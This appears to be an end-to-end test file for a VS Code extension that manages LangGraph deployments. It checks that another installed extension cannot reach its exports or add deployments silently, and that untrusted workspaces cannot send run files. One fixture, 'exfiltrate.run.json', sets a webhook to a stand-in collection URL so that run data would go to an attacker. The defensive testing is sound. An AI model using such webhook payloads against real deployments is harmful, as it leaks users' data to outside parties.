import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { newPage, openWorkbench, runCommand, screenshot, SELECTORS, workbenchUrl } from '../runner/browser';
import { REPO_ROOT, startCodeServer } from '../runner/codeServer';
import { until } from '../harness/until';
import { e2e } from './setup';

const STRANGER = join(REPO_ROOT, 'test/fixtures/stranger-extension');

/** The stranger extension as a .vsix, installed like any extension from the marketplace would be. */
function packStranger(runDir: string): string {
  const copy = join(runDir, 'stranger-src');
  cpSync(STRANGER, copy, { recursive: true });
  const vsix = join(runDir, 'stranger.vsix');
  const vsce = join(REPO_ROOT, 'node_modules/@vscode/vsce/vsce');
  const packed = spawnSync(process.execPath, [vsce, 'package', '--no-dependencies', '--allow-missing-repository', '--skip-license', '-o', vsix], { cwd: copy, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  if (packed.status !== 0) throw new Error(`vsce package failed: ${packed.stderr || packed.stdout}`);
  return vsix;
}

describe('e2e: what others cannot make the extension do', () => {
  it('another extension gets no exports from it, and cannot add a deployment without the user', async function () {
    this.timeout(180_000);
    const { server, browser } = e2e();
    const runDir = join(REPO_ROOT, '.test-runs', `e2e-stranger-${server.port}`);
    mkdirSync(runDir, { recursive: true });
    const report = join(runDir, 'stranger-report.json');
    writeFileSync(report, '{}');
    const codeServer = await startCodeServer({
      installVsix: [packStranger(runDir)],
      env: { STRANGER_REPORT: report },
      userSettings: { 'langgraph.deployments': [{ name: 'Example deployment', url: server.url }] },
    });
    const { page, context } = await newPage(browser);
    try {
      await page.setViewportSize({ width: 1400, height: 900 });
      await openWorkbench(page, workbenchUrl(codeServer.url, { folder: codeServer.workspace, extensionDevelopmentPath: REPO_ROOT }));
      // The stranger rewrites the file (writeFileSync truncates first): a read between the two is empty, and read again.
      const read = async (): Promise<{ exports?: unknown; addDeployment?: string }> => {
        try {
          return JSON.parse(readFileSync(report, 'utf8')) as { exports?: unknown; addDeployment?: string };
        } catch {
          return {};
        }
      };
      const found = await until(read, (r) => r.addDeployment === 'sent', { timeoutMs: 90_000, everyMs: 200 });
      assert.equal(found.addDeployment, 'sent', 'the stranger extension ran');
      assert.equal(found.exports, 'undefined', `activate() must export nothing outside tests: ${JSON.stringify(found.exports)}`);
      // The preset is ignored: the user is asked for the URL instead.
      await page.locator('.quick-input-widget', { hasText: 'Add LangGraph Deployment (1/2)' }).waitFor({ timeout: 30_000 });
      await screenshot(page, 'e2e', 'stranger-add-deployment-asks');
      const settingsFile = join(codeServer.userDataDir, 'User', 'settings.json');
      const settings = existsSync(settingsFile) ? readFileSync(settingsFile, 'utf8') : '';
      assert.ok(!settings.includes('127.0.0.1:9"'), `nothing was added behind the user's back: ${settings}`);
    } catch (error) {
      await screenshot(page, 'e2e', 'stranger-failure').catch(() => undefined);
      throw error;
    } finally {
      await context.close();
      await codeServer.stop();
    }
  });

  it('in Restricted Mode a run file is checked but not sent, even with the user\'s own deployment', async function () {
    this.timeout(180_000);
    const { server, browser, client } = e2e();
    const workspace = join(REPO_ROOT, '.test-runs', `e2e-untrusted-run-${server.port}`);
    mkdirSync(workspace, { recursive: true });
    // A file that would make the user's deployment post its values to the author's URL.
    writeFileSync(
      join(workspace, 'exfiltrate.run.json'),
      JSON.stringify({ assistant_id: 'agent', thread_id: 'new', webhook: 'http://127.0.0.1:9/collect', input: { messages: [{ role: 'user', content: 'hi' }] } }, null, 2),
    );
    const before = await client.threads.count();
    const codeServer = await startCodeServer({
      workspace,
      workspaceTrust: true,
      userSettings: { 'langgraph.deployments': [{ name: 'Example deployment', url: server.url }] },
    });
    const { page, context } = await newPage(browser);
    try {
      await page.setViewportSize({ width: 1400, height: 900 });
      await openWorkbench(page, workbenchUrl(codeServer.url, { folder: workspace, extensionDevelopmentPath: REPO_ROOT }));
      await page.getByRole('button', { name: /No, I don.t trust the authors/ }).click({ timeout: 60_000 });
      await runCommand(page, 'Go to File');
      await page.locator(SELECTORS.quickInput).fill('exfiltrate.run.json');
      await page.locator(SELECTORS.quickInputRows, { hasText: 'exfiltrate.run.json' }).first().click();
      await page.locator('.codelens-decoration', { hasText: 'Trust this workspace to run this file' }).waitFor({ timeout: 60_000 });
      await runCommand(page, 'LangGraph: Create Run from JSON File');
      // Headless, a toast may go straight to the notification center: look there.
      await runCommand(page, 'Notifications: Show Notifications');
      const toast = page.locator('.notifications-toasts, .notifications-center', { hasText: 'This workspace is not trusted' });
      await toast.waitFor({ timeout: 30_000 });
      assert.match(await toast.innerText(), /checked, not sent/);
      assert.match(await toast.innerText(), /Manage Workspace Trust/);
      await screenshot(page, 'e2e', 'untrusted-run-file');
      assert.equal(await client.threads.count(), before, 'no thread was made: nothing was sent');
    } catch (error) {
      await screenshot(page, 'e2e', 'untrusted-run-file-failure').catch(() => undefined);
      throw error;
    } finally {
      await context.close();
      await codeServer.stop();
    }
  });
});
